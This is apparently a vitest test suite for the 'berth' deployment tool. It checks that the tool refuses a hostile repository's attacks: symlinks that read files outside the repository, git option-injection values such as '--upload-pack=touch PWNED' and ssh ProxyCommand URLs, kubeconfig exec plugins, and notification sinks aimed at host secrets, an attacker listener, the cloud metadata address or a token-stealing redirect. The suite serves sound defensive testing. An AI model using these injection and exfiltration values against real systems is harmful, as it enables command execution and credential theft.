// A repository written by an attacker with commit rights: what it may try, and
// that berth refuses it with file:line (or the flag) instead of reading,
// running or crashing. One `describe` per concern; append new concerns below.
import { existsSync } from "node:fs";
import { lstat, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { simpleGit } from "simple-git";
import { afterEach, describe, expect, it } from "vitest";
import { createGitClient } from "../../src/adapters/git.ts";
import { GitError } from "../../src/errors.ts";
import { loadRepo } from "../../src/model/load.ts";
import { openSource } from "../../src/reconcile/source.ts";
import { runBerth } from "../support/cli.ts";
import { commitFiles, createBareRepo, removeRepo, type GitFixture } from "../support/git.ts";
import { BASE_REPO } from "./fixtures/base-repo.ts";
import { edit } from "./helpers/temp-repo.ts";
import { Writable } from "node:stream";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { createLogger } from "../../src/log.ts";
import { createNotifier } from "../../src/notify/notifier.ts";
import type { ReleaseSpec } from "../../src/model/types.ts";
import type { RunReport } from "../../src/reconcile/loop.ts";
import { SHA, cluster as clusterResult, record, release } from "../../src/notify/test-fixtures.ts";

const cleanups: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0)) await c();
});

async function tempDir(prefix: string): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), `berth-hostile-${prefix}-`));
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  return dir;
}

async function writeTree(dir: string, files: Record<string, string | null>): Promise<void> {
  for (const [path, text] of Object.entries(files)) {
    if (text === null) continue;
    await mkdir(join(dir, path, ".."), { recursive: true });
    await writeFile(join(dir, path), text);
  }
}

/** Every regular file under `dir` (symlinks are listed, never followed) whose bytes contain `needle`. */
async function filesContaining(dir: string, needle: string): Promise<string[]> {
  const hits: string[] = [];
  const walk = async (d: string): Promise<void> => {
    for (const e of await readdir(d, { withFileTypes: true })) {
      const full = join(d, e.name);
      if (e.isDirectory()) await walk(full);
      else if (e.isFile() && (await readFile(full)).includes(needle)) hits.push(relative(dir, full));
    }
  };
  await walk(dir);
  return hits;
}

/** A file outside every tree under test, holding bytes no test output may contain. */
async function secretOutside(): Promise<{ dir: string; file: string; bytes: string }> {
  const dir = await tempDir("outside");
  const bytes = `SECRET-${Math.random().toString(36).slice(2)}`;
  const file = join(dir, "hostname");
  await writeFile(file, `kind: ConfigMap\ndata: { stolen: ${bytes} }\n`);
  return { dir, file, bytes };
}

const WEB = "definitions/workloads/webservice.yaml";
const TEMPLATES = "definitions/workloads/templates";
/** The base repository with webservice's template replaced by `templates/link.yaml`. */
const LINKED = { ...BASE_REPO, ...edit(BASE_REPO, WEB, "- templates/deployment.yaml", "- templates/link.yaml") };
const REFUSED = /definitions\/workloads\/webservice\.yaml:10:7 spec\.templates\[0\]: template "templates\/link\.yaml": .*symlink leading outside the repository/;

async function gitInit(dir: string): Promise<void> {
  const g = simpleGit({ baseDir: dir, config: ["user.name=t", "user.email=t@berth.invalid", "commit.gpgsign=false"] });
  await g.init();
  await g.add(["-A", "."]);
  await g.commit("defs");
}

describe("symlinks leading out of the definitions tree", () => {
  it.each([
    { kind: "a git work tree", git: true },
    { kind: "a plain directory", git: false },
  ])("a local-directory source ($kind) keeps a template symlink as a link and never reads its target", async ({ git }) => {
    const secret = await secretOutside();
    const dir = await tempDir("local");
    await writeTree(dir, LINKED);
    await symlink(secret.file, join(dir, TEMPLATES, "link.yaml"));
    if (git) await gitInit(dir);
    const cache = await tempDir("cache");

    const rev = await (await openSource(dir, { cacheDir: cache })).fetch();
    expect((await lstat(join(rev.dir, TEMPLATES, "link.yaml"))).isSymbolicLink()).toBe(true);
    await expect(loadRepo(rev.dir)).rejects.toThrow(REFUSED);

    const plan = await runBerth(["plan", `--source=${dir}`, `--cache-dir=${cache}`]);
    expect(plan.code).toBe(1);
    expect(plan.err).toMatch(REFUSED);
    expect(plan.err).not.toContain(secret.bytes);
    expect(await filesContaining(cache, secret.bytes)).toEqual([]);
  });

  it("a local-directory source does not read tracked files through a folder swapped for a symlink", async () => {
    // git lists `templates/deployment.yaml` from its index; the folder on disk is now a link to elsewhere
    const secret = await secretOutside();
    await writeFile(join(secret.dir, "deployment.yaml"), await readFile(secret.file));
    const dir = await tempDir("local");
    await writeTree(dir, BASE_REPO);
    await gitInit(dir);
    await rm(join(dir, TEMPLATES), { recursive: true });
    await symlink(secret.dir, join(dir, TEMPLATES));
    const cache = await tempDir("cache");

    const plan = await runBerth(["plan", `--source=${dir}`, `--cache-dir=${cache}`]);
    expect(plan.code).toBe(1);
    expect(plan.err).toMatch(/webservice\.yaml:10:7 spec\.templates\[0\]: template "templates\/deployment\.yaml": .*symlink leading outside the repository/);
    expect(plan.err).not.toContain(secret.bytes);
    expect(await filesContaining(cache, secret.bytes)).toEqual([]);
  });

  it("a remote git source refuses a committed template symlink, absolute or ../ relative", async () => {
    const secret = await secretOutside();
    const repo: GitFixture = await createBareRepo();
    cleanups.push(() => removeRepo(repo));
    await commitFiles(repo, {
      ...LINKED,
      [WEB]: (LINKED[WEB] as string).replace("- templates/link.yaml", "- templates/link.yaml\n    - templates/up.yaml"),
    });
    await symlink(secret.file, join(repo.workDir, TEMPLATES, "link.yaml"));
    await symlink(`${"../".repeat(12)}${secret.file.slice(1)}`, join(repo.workDir, TEMPLATES, "up.yaml"));
    await commitFiles(repo, {}, { message: "links" });
    const cache = await tempDir("cache");

    const plan = await runBerth(["plan", `--source=${repo.url}`, `--cache-dir=${cache}`]);
    expect(plan.code).toBe(1);
    expect(plan.err).toMatch(REFUSED);
    expect(plan.err).toMatch(/spec\.templates\[1\]: template "templates\/up\.yaml": .*symlink leading outside the repository/);
    expect(plan.err).not.toContain(secret.bytes);
    expect(await filesContaining(cache, secret.bytes)).toEqual([]);
  });

  it("berth render refuses a template symlink and writes nothing of its target", async () => {
    const secret = await secretOutside();
    const dir = await tempDir("render");
    await writeTree(dir, LINKED);
    await symlink(secret.file, join(dir, TEMPLATES, "link.yaml"));
    const out = await tempDir("out");

    const r = await runBerth(["render", dir, "--out", out]);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(REFUSED);
    expect(r.err).not.toContain(secret.bytes);
    expect(await filesContaining(out, secret.bytes)).toEqual([]);
  });
});

describe("a --source or --ref that git would read as an option", () => {
  it.each([
    "--upload-pack=touch PWNED",
    "--recurse-submodules=yes@x:y",
    "-oProxyCommand=touch@PWNED:x",
    "ssh://-oProxyCommand=touch PWNED/repo.git",
    "git@-oProxyCommand=touch:PWNED",
  ])("berth plan --source=%s is a usage error before any git or cluster work", async (src) => {
    const dir = await tempDir("opt");
    const pwned = join(dir, "pwned");
    const cache = join(dir, "cache");
    const r = await runBerth(["plan", `--source=${src.replace("PWNED", pwned)}`, `--cache-dir=${cache}`]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^error: --source ".*": looks like a command-line option, not a directory or git URL; give a directory .* or a URL/);
    expect(existsSync(pwned)).toBe(false);
    expect(existsSync(cache)).toBe(false); // refused before a clone was even started
  });

  it("berth plan --ref=-… is a usage error that says what a ref is", async () => {
    const repo = await createBareRepo();
    cleanups.push(() => removeRepo(repo));
    await commitFiles(repo, BASE_REPO);
    const dir = await tempDir("opt");
    const r = await runBerth(["plan", `--source=${repo.url}`, "--ref=--upload-pack=touch x", `--cache-dir=${join(dir, "cache")}`]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/^error: --ref "--upload-pack=touch x": a ref cannot start with "-"; give a branch \(main\), a tag \(v1\.2\.0\) or a full 40-character commit SHA/);
  });

  it("the git adapter passes the URL after `--`, so git never parses it as an option", async () => {
    const dir = await tempDir("opt");
    const git = createGitClient();
    await git.initBare(join(dir, "repo.git"));
    const err = await git.fetchCommit(join(dir, "repo.git"), "--recurse-submodules=yes", "HEAD").catch((e: unknown) => e);
    expect(err).toBeInstanceOf(GitError);
    expect((err as GitError).command).toContain("--no-write-fetch-head -- --recurse-submodules=yes +HEAD:refs/berth/fetched");
    // git took it as a repository path, not as the option (which it would have rejected as a bad value)
    expect((err as GitError).stderr).not.toMatch(/bad recurse-submodules argument/);
  });
});

describe("a template that breaks handlebars", () => {
  const DEPLOYMENT = `${TEMPLATES}/deployment.yaml`;
  const named = (def: string, line: number, col: number) => `named at ${def}:${line}:${col} spec.templates[0])`;
  const trait = (appliesTo: string, template: string): Record<string, string> => ({
    "definitions/traits/evil.yaml": `apiVersion: berth.dev/v1alpha1\nkind: TraitDefinition\nmetadata: { name: evil }\nspec:\n  version: 1.0.0\n  appliesTo: [${appliesTo}]\n  schema: {}\n  templates: [templates/_evil.yaml]\n`,
    "definitions/traits/templates/_evil.yaml": template,
  });
  it.each([
    { name: "an unknown variable", files: { [DEPLOYMENT]: "kind: Deployment\nname: <% nosuch %>\n" }, at: `${DEPLOYMENT}:2:10`, message: /"nosuch" is not defined; a template can use chart/, def: named("definitions/workloads/webservice.yaml", 10, 7) },
    { name: "an unclosed block", files: { [DEPLOYMENT]: "kind: Deployment\n<%#if traits %>\nx: 1\n" }, at: `${DEPLOYMENT}:4:1`, message: /a <%#…%> block is never closed; end it with <%\/name%>/, def: named("definitions/workloads/webservice.yaml", 10, 7) },
    { name: "a partial that does not exist", files: { [DEPLOYMENT]: "kind: Deployment\n  <%> nope %>\n" }, at: `${DEPLOYMENT}:2:3`, message: /partial "nope": berth templates have no partials/, def: named("definitions/workloads/webservice.yaml", 10, 7) },
    { name: "a trait fragment using an unknown variable", files: trait('"*"', '<%#slot "env"%>\n- name: <% oops %>\n<%/slot%>\n'), at: "definitions/traits/templates/_evil.yaml:2:12", message: /"oops" is not defined/, def: named("definitions/traits/evil.yaml", 8, 15) },
    { name: "a trait that applies to no workload, with a syntax error", files: trait("nothing", "<%#each traits%>\n"), at: "definitions/traits/templates/_evil.yaml:2:1", message: /block is never closed/, def: named("definitions/traits/evil.yaml", 8, 15) },
  ])("$name: validate and render both report file:line:col, never a stack trace", async ({ files, at, message, def }) => {
    const dir = await tempDir("hbs");
    await writeTree(dir, { ...BASE_REPO, ...files });
    const out = await tempDir("out");
    for (const args of [["validate", dir], ["render", dir, "--out", out]]) {
      const r = await runBerth(args);
      expect(r.code, `berth ${args[0]}`).toBe(1);
      const line = r.err.split("\n").find((l) => l.startsWith(`${at} `));
      expect(line, `berth ${args[0]}: ${r.err}`).toBeDefined();
      expect(line).toMatch(message);
      expect(line).toContain(def);
      expect(r.err).not.toMatch(/^\s+at /m);
    }
    expect(existsSync(join(out, "charts"))).toBe(false);
  });
});

describe("a Cluster's kubeconfig: exec plugins, paths, and the environment", () => {
  const KUBECONFIG_LINE = /clusters\/prod\.yaml:7:\d+ spec\.kubeconfig\.path: /;
  /** A kubeconfig whose user runs `touch <marker>` as its credential plugin (client-node and helm would both run it). */
  const execKubeconfig = (marker: string) =>
    [
      "apiVersion: v1",
      "kind: Config",
      "clusters: [{ name: c, cluster: { server: 'https://127.0.0.1:1' } }]",
      `users: [{ name: u, user: { exec: { apiVersion: client.authentication.k8s.io/v1, command: touch, args: ['${marker}'] } } }]`,
      "contexts: [{ name: prod-hk, context: { cluster: c, user: u } }]",
      "current-context: prod-hk",
      "",
    ].join("\n");
  /** The base repository with prod-hk's kubeconfig at `path`, plus extra files. */
  const repoWith = (path: string, extra: Record<string, string> = {}) => ({
    ...BASE_REPO,
    ...edit(BASE_REPO, "clusters/prod.yaml", "{ path: ~/.kube/config, context: prod-hk }", `{ path: "${path}", context: prod-hk }`),
    ...extra,
  });
  const commands = (src: string, cache: string, more: string[]) => [
    ["plan", `--source=${src}`, `--cache-dir=${cache}`, ...more],
    ["status", `--source=${src}`, `--cache-dir=${cache}`, ...more],
    ["reconcile", "--once", `--source=${src}`, `--cache-dir=${cache}`, "--helm=/nonexistent/helm", ...more],
  ];

  it("an exec plugin in an allowed dir never runs without --insecure-kubeconfig-exec: plan, status and reconcile --once name file:line and the flag", async () => {
    const kube = await tempDir("kube");
    const marker = join(kube, "marker");
    await writeFile(join(kube, "config"), execKubeconfig(marker));
    const dir = await tempDir("local");
    await writeTree(dir, repoWith(join(kube, "config")));
    const cache = await tempDir("cache");
    for (const args of commands(dir, cache, [`--kubeconfig-dir=${kube}`])) {
      const r = await runBerth(args);
      expect(r.out + r.err).toMatch(KUBECONFIG_LINE);
      expect(r.out + r.err).toMatch(/its user u runs an exec credential plugin .*unless the operator starts it with --insecure-kubeconfig-exec/);
      expect(existsSync(marker)).toBe(false);
    }
  });

  it("with --insecure-kubeconfig-exec the plugin of a kubeconfig in an allowed dir runs", async () => {
    const kube = await tempDir("kube");
    const marker = join(kube, "marker");
    await writeFile(join(kube, "config"), execKubeconfig(marker));
    const dir = await tempDir("local");
    await writeTree(dir, repoWith(join(kube, "config")));
    await runBerth(["plan", `--source=${dir}`, `--cache-dir=${await tempDir("cache")}`, `--kubeconfig-dir=${kube}`, "--insecure-kubeconfig-exec"]);
    expect(existsSync(marker)).toBe(true);
  });

  it("a kubeconfig committed to the repository is refused even when an allowed dir holds the source and the flag is given", async () => {
    const parent = await tempDir("parent");
    const dir = join(parent, "defs");
    const marker = join(parent, "marker");
    await writeTree(dir, repoWith(join(dir, "clusters", "kubeconfig"), { "clusters/kubeconfig": execKubeconfig(marker) }));
    const cache = await tempDir("cache");
    for (const args of commands(dir, cache, [`--kubeconfig-dir=${parent}`, "--insecure-kubeconfig-exec"])) {
      const r = await runBerth(args);
      expect(r.out + r.err).toMatch(KUBECONFIG_LINE);
      expect(r.out + r.err).toMatch(/clusters\/kubeconfig is inside the definitions source .*, which git can write; berth reads kubeconfigs only from the operator's directories \(--kubeconfig-dir/);
      expect(existsSync(marker)).toBe(false);
    }
  });

  it("a kubeconfig inside berth's --cache-dir (where a remote repository lands) is refused", async () => {
    const parent = await tempDir("parent");
    const cache = join(parent, "cache");
    const marker = join(parent, "marker");
    await mkdir(cache, { recursive: true });
    await writeFile(join(cache, "kubeconfig"), execKubeconfig(marker));
    const repo: GitFixture = await createBareRepo();
    cleanups.push(() => removeRepo(repo));
    await commitFiles(repo, repoWith(join(cache, "kubeconfig")));
    const r = await runBerth(["plan", `--source=${repo.url}`, `--cache-dir=${cache}`, `--kubeconfig-dir=${parent}`, "--insecure-kubeconfig-exec"]);
    expect(r.out).toMatch(KUBECONFIG_LINE);
    expect(r.out).toMatch(/is inside berth's --cache-dir/);
    expect(existsSync(marker)).toBe(false);
  });

  it("a relative path is refused: it would depend on the directory berth runs in", async () => {
    const dir = await tempDir("local");
    const marker = join(dir, "marker");
    await writeTree(dir, repoWith("clusters/kubeconfig", { "clusters/kubeconfig": execKubeconfig(marker) }));
    // run from inside the source, where the relative path would name the committed file
    const r = await runBerth(["plan", "--source=.", `--cache-dir=${await tempDir("cache")}`, `--kubeconfig-dir=${dir}`, "--insecure-kubeconfig-exec"], dir);
    expect(r.out + r.err).toMatch(KUBECONFIG_LINE);
    expect(r.out + r.err).toMatch(/path "clusters\/kubeconfig" is relative, so it would depend on the directory berth runs in; write an absolute path/);
    expect(existsSync(marker)).toBe(false);
  });

  it("${VAR} in a path is not expanded: berth's environment never reaches output, status or the cache", async () => {
    const value = `VALUE-${Math.random().toString(36).slice(2)}`;
    process.env.BERTH_HOSTILE_TEST_SECRET = value;
    cleanups.push(async () => delete process.env.BERTH_HOSTILE_TEST_SECRET);
    const dir = await tempDir("local");
    await writeTree(dir, repoWith("/tmp/${BERTH_HOSTILE_TEST_SECRET}/kubeconfig"));
    const cache = await tempDir("cache");
    for (const args of [...commands(dir, cache, []), ["status", `--source=${dir}`, `--cache-dir=${cache}`, "--output=json"]]) {
      const r = await runBerth(args);
      expect(r.out + r.err, args.join(" ")).toMatch(/nothing in a kubeconfig path is expanded from the environment; write the path itself/);
      expect(r.out + r.err).not.toContain(value);
    }
    expect(await filesContaining(cache, value)).toEqual([]);
  });
});

describe("a commit that reaches beyond its application", () => {
  /** Application `shop-api` with entry `redis` renders release `shop-api-redis`, as shop's entry `api-redis` would. */
  const colliding = {
    ...BASE_REPO,
    "apps/shop.yaml": BASE_REPO["apps/shop.yaml"]!.replace("    - name: redis\n      component: redis", "    - name: api-redis\n      component: redis").replace("dependsOn: [redis]", "dependsOn: [api-redis]"),
    "apps/shop-api.yaml": `apiVersion: berth.dev/v1alpha1
kind: Application
metadata: { name: shop-api }
spec:
  namespace: shop
  components:
    - { name: redis, component: redis, version: "~7.2.0" }
  placement: { clusterSelector: { env: prod } }
`,
  };

  it("cannot replace another application's release by choosing a name that renders the same release: validate and plan name both entries", async () => {
    const dir = await tempDir("local");
    await writeTree(dir, colliding);
    const v = await runBerth(["validate", dir]);
    expect(v.code).toBe(1);
    expect(v.err).toMatch(/apps\/shop-api\.yaml:\d+:\d+ spec\.components\[0\]\.name: .*shop-api-redis/);
    expect(v.err).toMatch(/apps\/shop\.yaml:\d+:\d+ spec\.components\[0\]\.name: .*shop-api-redis/);
    const p = await runBerth(["plan", `--source=${dir}`, `--cache-dir=${await tempDir("cache")}`]);
    expect(p.out + p.err).toMatch(/shop-api-redis/);
    expect(p.out + p.err).not.toMatch(/install/);
  });

  it("under --require-project, cannot deploy without a Project or into kube-system through one", async () => {
    const dir = await tempDir("local");
    const project = `apiVersion: berth.dev/v1alpha1
kind: Project
metadata: { name: shop-team }
spec: { namespaces: [shop] }
`;
    await writeTree(dir, { ...BASE_REPO, "projects/shop.yaml": project });
    const none = await runBerth(["validate", dir, "--require-project"]);
    expect(none.code).toBe(1);
    expect(none.err).toMatch(/apps\/shop\.yaml:\d+:\d+ spec\.project: /);
    await writeTree(dir, { "apps/shop.yaml": BASE_REPO["apps/shop.yaml"]!.replace("  namespace: shop\n", "  project: shop-team\n  namespace: kube-system\n") });
    const escape = await runBerth(["validate", dir, "--require-project"]);
    expect(escape.code).toBe(1);
    expect(escape.err).toMatch(/apps\/shop\.yaml:\d+:\d+ spec\.namespace: .*kube-system/);
  });
});

describe("a chart Component pointing outside the repository", () => {
  const chartRepo = (path: string) => ({
    "clusters.yaml": "apiVersion: berth.dev/v1alpha1\nkind: Cluster\nmetadata: { name: dev }\nspec: {}\n",
    "chart.yaml": `apiVersion: berth.dev/v1alpha1\nkind: Component\nmetadata: { name: evil }\nspec:\n  chart: { path: ${path} }\n`,
    "app.yaml": "apiVersion: berth.dev/v1alpha1\nkind: Application\nmetadata: { name: a }\nspec:\n  namespace: a\n  components:\n    - { name: x, component: evil, version: '*' }\n",
  });

  it("by `..` is refused at file:line, and nothing is read", async () => {
    const root = await tempDir("chart-dotdot");
    await writeTree(root, chartRepo("../outside"));
    await expect(loadRepo(root, { noBuiltins: true })).rejects.toThrow(/chart.yaml:5:\d+ spec.chart.path: path "..\/outside" leads outside the repository/);
  });

  it("by a symlinked folder is refused without reading the target (its secret never reaches a message or the chart)", async () => {
    const root = await tempDir("chart-link");
    const outside = await tempDir("chart-link-target");
    await writeTree(outside, { "Chart.yaml": "apiVersion: v2\nname: stolen\nversion: 1.0.0\n", "values.yaml": "secret: TOPSECRET\n" });
    await writeTree(root, chartRepo("charts/evil"));
    await mkdir(join(root, "charts"));
    await symlink(outside, join(root, "charts", "evil"));
    const err = await loadRepo(root, { noBuiltins: true }).then(() => undefined, (e: Error) => e);
    expect(err?.message).toMatch(/chart.yaml:5:\d+ spec.chart.path: cannot read the chart: charts\/evil is a symlink leading outside the repository/);
    expect(err?.message).not.toMatch(/TOPSECRET|stolen/);
  });
});

describe("a Notification aiming berth at host files or other URLs", () => {
  /** A loopback HTTP server recording what reaches it; `redirectTo` makes it answer 307 there. */
  async function listener(redirectTo?: string) {
    const got: { url: string; headers: Record<string, unknown>; body: string }[] = [];
    const server = createServer((req, res) => {
      let body = "";
      req.on("data", (c: Buffer) => (body += c.toString()));
      req.on("end", () => {
        got.push({ url: req.url ?? "", headers: req.headers, body });
        if (redirectTo) res.writeHead(307, { location: redirectTo }).end();
        else res.writeHead(200).end("ok");
      });
    });
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    cleanups.push(() => new Promise((r) => server.close(r)));
    return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, got };
  }

  /** Loads BASE_REPO with `notification` and runs one pass's worth of notifications (a failed release) through the real notifier. */
  async function notify(notification: string, policy: { credentialDirs: string[]; urls: string[] }) {
    const root = await tempDir("notify");
    await writeTree(root, { ...BASE_REPO, "notify/evil.yaml": notification });
    const repo = await loadRepo(root);
    let logs = "";
    const sent: string[] = [];
    const notifier = createNotifier({
      policy,
      namespace: "berth-system",
      source: { location: "file:///srv/defs.git", status: () => ({}) },
      kube: () => ({ getObject: async () => undefined, applyObject: async () => undefined, ensureNamespace: async () => undefined }),
      log: createLogger({ level: "debug", destination: new Writable({ write: (c, _e, cb) => ((logs += c.toString()), cb()) }) }),
      onOutcome: (sink, event, outcome) => sent.push(`${sink} ${event} ${outcome}`),
      backoff: { baseMs: 1, maxMs: 2, attempts: 2 },
    });
    const report: RunReport = {
      revision: SHA,
      desired: { commit: SHA, repo, byCluster: new Map([["prod-hk", [{ application: "shop" } as ReleaseSpec]]]), charts: new Map() },
      clusters: [clusterResult("prod-hk", [release("failed", "boom", [record("install", "failed", "2026-12-02T00:00:00.000Z")])])],
      helmCalls: 0,
      durationMs: 1,
    };
    notifier.afterPass(report);
    await notifier.idle(10_000);
    return { logs, outcomes: sent };
  }

  const doc = (sinks: string) => `apiVersion: berth.dev/v1alpha1\nkind: Notification\nmetadata: { name: evil }\nspec:\n  on: [failed]\n  sinks:\n${sinks}`;

  it("cannot make berth read a host file outside the operator's directories, directly or through a symlink, for a key, a Slack URL or a token", async () => {
    const secret = await secretOutside();
    const allowed = await tempDir("notify-creds");
    await symlink(secret.file, join(allowed, "innocent"));
    const rx = await listener();
    const r = await notify(
      doc(`    - webhook: { url: "${rx.url}/hook", secretFile: ${secret.file} }\n    - webhook: { url: "${rx.url}/hook2", secretFile: ${join(allowed, "innocent")} }\n    - slack: { urlFile: ${secret.file} }\n    - commitStatus: { provider: gitea, url: "${rx.url}", tokenFile: ${join(allowed, "innocent")}, repository: a/b }\n`),
      { credentialDirs: [allowed], urls: [rx.url] },
    );
    expect(rx.got).toEqual([]);
    expect(r.outcomes.sort()).toEqual(["commitStatus failure refused", "slack failed refused", "webhook failed refused", "webhook failed refused"]);
    expect(r.logs).toMatch(/notify\/evil\.yaml:7:\d+ spec\.sinks\[0\]\.webhook\.secretFile: \/.* is not a file inside the directories the operator allows .*--notification-credentials-dir/);
    expect(r.logs).toMatch(/notify\/evil\.yaml:8:\d+ spec\.sinks\[1\]\.webhook\.secretFile: .*innocent is not a file inside/);
    expect(r.logs).toMatch(/spec\.sinks\[3\]\.commitStatus\.tokenFile: .*innocent is not a file inside/);
    expect(r.logs).not.toContain(secret.bytes);
  });

  it("cannot send the forge token or its events to a URL the operator did not allow (another host, the metadata address, a redirect, a token file read as a Slack URL)", async () => {
    const allowed = await tempDir("notify-creds");
    const TOKEN = `forge-token-${Math.random().toString(36).slice(2)}`;
    await writeFile(join(allowed, "token"), TOKEN);
    await writeFile(join(allowed, "key"), "hook-key");
    const attacker = await listener();
    const forge = await listener(`${attacker.url}/stolen`);
    const r = await notify(
      doc(
        `    - commitStatus: { provider: gitea, url: "${attacker.url}", tokenFile: ${join(allowed, "token")}, repository: a/b }\n` +
          `    - webhook: { url: "http://169.254.169.254/latest/meta-data", secretFile: ${join(allowed, "key")} }\n` +
          `    - commitStatus: { provider: github, url: "${forge.url}", tokenFile: ${join(allowed, "token")}, repository: a/b }\n` +
          `    - slack: { urlFile: ${join(allowed, "token")} }\n`,
      ),
      { credentialDirs: [allowed], urls: [forge.url] },
    );
    expect(attacker.got).toEqual([]);
    // the allowed forge answered with a redirect elsewhere: not followed, not tried again
    expect(forge.got).toHaveLength(1);
    expect(r.outcomes.sort()).toEqual(["commitStatus failure failed", "commitStatus failure refused", "slack failed refused", "webhook failed refused"]);
    expect(r.logs).toMatch(/notify\/evil\.yaml:7:\d+ spec\.sinks\[0\]\.commitStatus\.url: http:\/\/127\.0\.0\.1:\d+\/api\/v1\/repos\/a\/b\/statuses\/[0-9a-f]+ is not one the operator allows .*--notification-url-allow/);
    expect(r.logs).toMatch(/spec\.sinks\[1\]\.webhook\.url: http:\/\/169\.254\.169\.254\/latest\/meta-data is not one the operator allows/);
    expect(r.logs).toMatch(/answered 307 \(a redirect, not followed/);
    expect(r.logs).toMatch(/spec\.sinks\[3\]\.slack\.urlFile: not a URL/);
    expect(r.logs).not.toContain(TOKEN);
  });
});
